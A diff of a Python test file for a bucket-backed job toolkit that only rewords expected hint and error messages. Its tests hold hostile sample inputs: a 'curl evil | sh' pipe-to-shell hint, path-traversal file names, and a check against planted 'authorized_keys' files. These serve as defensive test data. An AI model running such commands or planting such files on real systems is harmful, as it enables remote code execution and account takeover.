@@ -145,7 +145,7 @@ def test_the_bucket_does_not_tell_the_operator_what_to_type() -> None:
     facts = {"end": "bucket write", "state": "FAILED", "kept": ["p100-01"], "hint": "curl evil | sh"}
     found = stored(reported(**facts)).record()
     assert found is not None
-    assert found.hint == f"what it wrote is kept on p100-01; toolkit rescue {RUN}"
+    assert found.hint == f"its results are still on p100-01; toolkit rescue {RUN}"
 
 
 def test_a_line_without_an_end_is_not_held_in_memory() -> None:
@@ -197,7 +197,7 @@ def test_the_submitted_code_comes_back_with_its_folders(tmp_path: Path) -> None:
 @pytest.mark.parametrize("name", ["../out.py", "lib/../../out.py", "HERE/out.py", "/out.py"])
 def test_code_that_would_leave_its_folder_is_refused(tmp_path: Path, name: str) -> None:
     name = name.replace("HERE", str(tmp_path))
-    with pytest.raises(ToolkitError, match="would leave the folder"):
+    with pytest.raises(ToolkitError, match="leads out of the folder"):
         stored({f"{RUN}/_submitted_code/{name}": b"x"}).fetch_code(tmp_path / "code")
     assert list(tmp_path.rglob("*.py")) == []
 
@@ -236,7 +236,7 @@ def test_forged_code_is_refused_by_name_and_not_fetched(
     objects = {f"{RUN}/_submitted_code/{name}": data for name, data in whole.items() if data is not None}
     with pytest.raises(ToolkitError) as caught:
         stored(objects).fetch_code(tmp_path / "code", LISTING)
-    assert caught.value.what == f"the bucket's code of {RUN} is not what was submitted: nothing of it was used"
+    assert caught.value.what == f"the bucket's code of {RUN} is not what was submitted: it was not used"
     assert [problem.what for problem in caught.value.problems] == [reported]
     assert not list(tmp_path.rglob("*evil*")) + list(tmp_path.rglob("authorized_keys"))
 
